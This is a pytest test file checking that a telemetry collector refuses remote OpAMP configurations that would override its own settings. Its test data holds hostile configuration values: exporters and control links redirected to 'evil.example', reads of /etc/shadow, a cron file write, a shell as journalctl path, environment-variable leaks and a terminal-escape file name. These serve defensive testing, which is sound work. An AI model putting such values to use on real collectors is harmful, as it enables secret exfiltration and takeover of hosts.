"""What a configuration of an OpAMP server may say over that of this machine."""

from __future__ import annotations

from typing import Any

import pytest
import yaml

from collector.component import Factory, Kind
from collector.delivery.config import DeliveryConfig
from collector.errors import ConfigError
from collector.registry import Registry, default_registry
from collector.settings.load import read
from collector.settings.model import Settings
from collector.settings.remote import Laying, Remote
from collector.settings.tree import Mapping
from collector.settings.yaml_reader import read_yaml

LOCAL = """
receivers: {nop: , otlp: {protocols: {http: {endpoint: "127.0.0.1:4318"}}}}
processors: {batch: {timeout: 1s}}
exporters: {nop: , otlp_http/ours: {endpoint: "https://ours.example", headers: {x-key: our-own-secret}}}
extensions:
  opamp: {server: {ws: {endpoint: "ws://127.0.0.1:1"}}, capabilities: {accepts_remote_config: true}}
  health_check: {endpoint: "127.0.0.1:13133"}
service:
  extensions: [opamp, health_check]
  security: {strict: true}
  pipelines: {logs: {receivers: [otlp], processors: [batch], exporters: [nop]}}
"""
THEIRS = "exporters: {otlp_http/theirs: {endpoint: 'https://theirs.example'}}"


def together(*texts: str, sets: tuple[str, ...] = (), **bounds: Any) -> Settings:
    files = {str(number): text for number, text in enumerate(texts)}
    environ = {"KEY": "from-here", "OTHER": "not-for-them"}
    return read([f"yaml:{LOCAL}"], sets, environ=environ, remote=Remote(files, **bounds)).settings


def pipelines(**logs: list[str]) -> str:
    return yaml.safe_dump({"service": {"pipelines": {"logs": logs}}})


def test_it_declares_components_and_arranges_pipelines() -> None:
    settings = together(THEIRS, pipelines(exporters=["otlp_http/theirs"]))
    assert list(settings.pipelines["logs"].receivers) == ["otlp"]
    assert list(settings.pipelines["logs"].exporters) == ["otlp_http/theirs"]


def test_what_is_declared_here_it_may_name() -> None:
    assert list(together(pipelines(exporters=["otlp_http/ours", "nop"])).pipelines["logs"].exporters) == [
        "otlp_http/ours",
        "nop",
    ]


def test_files_are_merged_in_the_order_of_their_names() -> None:
    settings = together(THEIRS, pipelines(exporters=["otlp_http/theirs"]), pipelines(exporters=["nop"]))
    assert list(settings.pipelines["logs"].exporters) == ["nop"]


def test_values_of_the_command_line_have_the_last_word() -> None:
    settings = together(pipelines(processors=[]), sets=("service.pipelines.logs.processors=[batch]",))
    assert list(settings.pipelines["logs"].processors) == ["batch"]


@pytest.mark.parametrize("listed", ["[]", "[bearertokenauth/x]", "opamp", "null"])
def test_extensions_of_this_machine_stay(listed: str) -> None:
    """It adds its own to the list."""
    text = f"extensions: {{bearertokenauth/x: {{token: abcdefgh}}}}\nservice: {{extensions: {listed}}}"
    assert {"opamp", "health_check"} <= set(together(text).extensions)


def test_an_empty_one_leaves_what_this_machine_says() -> None:
    assert list(together().pipelines["logs"].exporters) == ["nop"]
    assert list(together("").pipelines["logs"].exporters) == ["nop"]


def test_the_same_as_here_is_no_change() -> None:
    same = yaml.safe_dump(
        {name: part for name, part in yaml.safe_load(LOCAL).items() if name in ("receivers", "extensions")}
    )
    assert set(together(same).extensions) == {"opamp", "health_check"}


FORBIDDEN = {
    "its own link": ("extensions: {opamp: {server: {ws: {endpoint: 'ws://evil.example'}}}}", "extensions.opamp may not"),
    "another link": ("extensions: {opamp/2: {server: {ws: {endpoint: 'ws://evil.example'}}}}", "extensions.opamp/2 may not"),
    "the link in another spelling": ("extensions: {' opamp ': {instance_uid: x}}", "extensions.opamp may not"),
    "the link by a path": ("extensions::opamp: {server: {ws: {endpoint: 'ws://evil.example'}}}", "has no such section"),
    "all extensions away": ("extensions: null", "extensions: it must be a mapping"),
    "the service away": ("service: null", "service: it must be a mapping"),
    "a section as a list": ("receivers: []", "receivers: it must be a mapping"),
    "programs": ("exporters: {command: {commands: {}}}", "it runs programs"),
    "a file to write": ("exporters: {file: {path: /etc/cron.d/x}}", "it writes files"),
    "a store to write": ("exporters: {sqlite/x: {path: /x}}", "it writes a file"),
    "files to read": ("receivers: {filelog: {include: [/etc/shadow]}}", "it reads files"),
    "journalctl": ("receivers: {journald: {journalctl_path: /bin/sh}}", "it runs a program"),
    "a console": ("extensions: {console: {}}", "it shows records"),
    "where our records go": ("exporters: {otlp_http/ours: {endpoint: 'https://evil.example'}}", "is declared on this machine"),
    "a door of ours": ("receivers: {otlp: {protocols: {http: {endpoint: '0.0.0.0:4318'}}}}", "is declared on this machine"),
    "a component of ours away": ("receivers: {otlp: null}", "is declared on this machine"),
    "security": ("service: {security: {strict: false}}", "service.security is this machine's own"),
    "domains": ("service: {domains: {names: [a.example]}}", "service.domains is this machine's own"),
    "metrics": ("service: {telemetry: {metrics: {level: none}}}", "service.telemetry.metrics is this machine's own"),
    "telemetry away": ("service: {telemetry: null}", "service.telemetry is this machine's own"),
    "log files": ("service: {telemetry: {logs: {output_paths: [/x]}}}", "service.telemetry.logs.output_paths is"),
    "a section that there is not": ("include: x", "include: it must be a mapping"),
    "a variable": ("exporters: {otlp_http/t: {endpoint: 'https://x.example/${env:OTHER}'}}", "the variable OTHER"),
    "a variable in short": ("exporters: {otlp_http/t: {endpoint: 'https://x.example/${OTHER}'}}", "the variable OTHER"),
    "a variable with a default": ("exporters: {otlp_http/t: {endpoint: 'https://x.example/${env:KEY:-x}'}}", "this expression may not"),
    "a variable within a variable": ("exporters: {otlp_http/t: {endpoint: 'https://x.example/${env:${env:KEY}}'}}", "this expression"),
    "an expression within yaml": ("exporters: {otlp_http/t: {endpoint: '${yaml:https://x.example/}'}}", "this expression"),
    "a file's content": ("exporters: {otlp_http/t: {endpoint: 'https://x.example', headers: {a: '${file:/etc/shadow}'}}}", "this expression"),
    "a key of ours": ("exporters: {otlp_http/t: {endpoint: 'https://x.example', tls: {cert_file: /k, key_file: /k}}}", "names a file"),
    "a token of ours": ("extensions: {bearertokenauth/x: {filename: links.key}}", "bearertokenauth/x.filename names a file"),
    "a list of files": ("processors: {enrich: {file: {path: /etc/shadow}}}", "it reads files here"),
    "a database to read": ("processors: {enrich/x: {key: k, sqlite: {path: /x, query: 'SELECT 1'}}}", "it reads files here"),
    "a template to read": ("exporters: {apprise: {urls: ['msteams://a/b/c/?template=/etc/shadow']}}", "read files"),
    "our credentials for Google": ("exporters: {googlecloud: {log: {endpoint: 'https://evil.example'}}}", "the credentials of this machine"),
    "secrets of the cluster": ("receivers: {k8sobjects: {objects: [{name: secrets}]}}", "secrets as well"),
    "our token for Kubernetes": ("processors: {k8s_attributes: {endpoint: 'https://evil.example'}}", "told the token of this machine"),
    "our token of a resolver": (
        "exporters: {load_balancing: {resolver: {k8s: {service: a, endpoint: 'https://evil.example'}}}}", "told the token of this machine"
    ),
    "a variable by an operator": (
        "receivers: {tcp_log: {operators: [{type: add, field: attributes.x, value: 'EXPR(env (\"OTHER\"))'}]}}", "names a variable"
    ),
    "a variable by a pipe": (
        "receivers: {tcp_log: {operators: [{type: filter, expr: '(\"OTHER\" | os_env_func()) == body'}]}}", "names a variable"
    ),
    "a variable by an option": (
        "processors: {resource_detection: {detectors: [k8s_api], k8s_api: {node_from_env_var: OTHER}}}", "names a variable"
    ),
    "a socket": ("exporters: {otlp_http/t: {endpoint: 'unix:///var/run/docker.sock'}}", "names a file"),
    "no YAML": ("a: [", ""),
    "a key twice": ("receivers: {nop: , nop: }", ""),
    "no mapping": ("- a", "must be a mapping"),
}  # fmt: skip


@pytest.mark.parametrize("text", [text for text, _ in FORBIDDEN.values()], ids=list(FORBIDDEN))
def test_what_is_not_its_business_is_refused(text: str) -> None:
    words = next(words for given, words in FORBIDDEN.values() if given == text)
    with pytest.raises(ConfigError) as refused:
        together(text, variables=["KEY"])
    told = "\n".join(f"{each.file} {each.message}" for each in refused.value.problems)
    assert words in told
    assert "remote configuration 0" in told
    assert "our-own-secret" not in told
    assert "not-for-them" not in told


ALLOWED: dict[str, tuple[str, dict[str, Any]]] = {
    "files to read": ("receivers: {filelog: {include: [/var/log/x]}}", {"allow": ["file_log"]}),
    "by another name": ("receivers: {file_log: {include: [/var/log/x]}}", {"allow": ["filelog"]}),
    "a component of ours": ("processors: {batch: {timeout: 2s}}", {"allow": ["batch"]}),
    "a variable": ("exporters: {otlp_http/t: {endpoint: 'https://x.example', headers: {a: 'Bearer ${env:KEY}'}}}", {"variables": ["KEY"]}),
    "a variable by an operator": (
        "receivers: {tcp_log: {operators: [{type: add, field: attributes.x, value: 'EXPR(env(\"KEY\"))'}]}}", {"variables": ["KEY"]}
    ),
    "the name of a node": ("processors: {resource_detection: {detectors: [k8s_api], k8s_api: {node_from_env_var: KUBE_NODE_NAME}}}", {}),
    "a file": ("exporters: {otlp_http/t: {endpoint: 'https://x.example', tls: {ca_file: /x}}}", {}),
    "files": ("exporters: {otlp_http/t: {endpoint: 'https://x.example', tls: {cert_file: /x, key_file: /x}}}", {"may_name_files": True}),
    "the log level": ("service: {telemetry: {logs: {level: debug}}}", {}),
}  # fmt: skip


@pytest.mark.parametrize("name", ALLOWED)
def test_the_operator_may_allow_it(name: str) -> None:
    text, bounds = ALLOWED[name]
    together(text, **bounds)


@pytest.mark.parametrize("allow", [["opamp"], ["opamp", "otlp"]])
def test_its_own_link_nobody_can_allow(allow: list[str]) -> None:
    with pytest.raises(ConfigError, match=r"extensions\.opamp may not come from a server") as refused:
        together("extensions: {opamp: {capabilities: {accepts_restart_command: true}}}", allow=allow)
    assert not any("allows it" in problem.hint for problem in refused.value.problems)


@pytest.mark.parametrize(
    ("local", "given", "stays"),
    [
        ("processors: ${file:p.yaml}", "processors: {redact: {}}", "processors"),
        ("service: ${file:s.yaml}", pipelines(exporters=["nop"]), "service"),
        (
            "service: {telemetry: '${file:t.yaml}'}",
            "service: {telemetry: {logs: {level: debug}}}",
            "service.telemetry",
        ),
    ],
    ids=["components", "the service", "telemetry"],
)
def test_what_comes_from_an_expression_here_is_not_replaced(local: str, given: str, stays: str) -> None:
    """Both can't be merged before it is read."""
    here = read_yaml(local, "here.yaml")
    assert isinstance(here, Mapping)
    laying = Laying(Remote({"": given}), here, default_registry())
    laying.laid()
    assert f"{stays} comes from an expression on this machine, and stays as it is" in [
        problem.message for problem in laying.problems
    ]


class Theirs(DeliveryConfig):
    """Of another package."""


def test_a_plugin_is_asked_for() -> None:
    """Nobody has looked what it does."""
    registry = Registry([Factory(Kind.EXPORTER, "parrot", Theirs, "x:Y", "")])
    laying = Laying(Remote({"": "exporters: {parrot: }"}), Mapping(), registry)
    laying.laid()
    assert [problem.message for problem in laying.problems] == [
        "exporters.parrot may not come from a server: it is a plugin"
    ]


def test_names_of_files_are_shown_without_what_steers_a_terminal() -> None:
    with pytest.raises(ConfigError) as refused:
        read([f"yaml:{LOCAL}"], remote=Remote({"../../\x1b[2J\n": "a: 1"}))
    assert {problem.file for problem in refused.value.problems} == {"remote configuration .._..___2J_"}


def test_problems_of_its_components_are_told_like_any_others() -> None:
    with pytest.raises(ConfigError, match=r'exporters\.otlp_http/t has no option "endpont"'):
        together("exporters: {otlp_http/t: {endpont: x}}", pipelines(exporters=["otlp_http/t"]))
